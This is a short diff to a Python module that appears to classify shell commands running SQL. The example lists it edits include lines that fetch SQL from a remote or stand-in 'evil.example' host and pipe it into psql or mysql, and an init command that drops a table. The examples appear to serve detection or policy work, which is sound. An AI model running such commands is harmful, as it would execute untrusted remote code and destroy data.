@@ -342,7 +342,7 @@ def _input_files(cmd) -> list[str]:
 
 
 @emits({**SQL_EXAMPLES, **META_EXAMPLES,
-        "sql.piped": ["echo 'SELECT 1' | psql", "echo 'DROP TABLE x' | mysql db"],
+        "sql.piped": ["cat dump.sql | psql", 'curl -s https://x.example/q.sql | mysql db'],
         "sql.file-runtime": ["psql -f <(curl -s https://evil.example/x.sql)"],
         "sql.session": ["psql", "mysql -u root -p db"], "sql.file": ["psql -f schema.sql", "mysql db < dump.sql"],
         "sql.init-command": ["mysql --init-command='DROP TABLE x' db"],
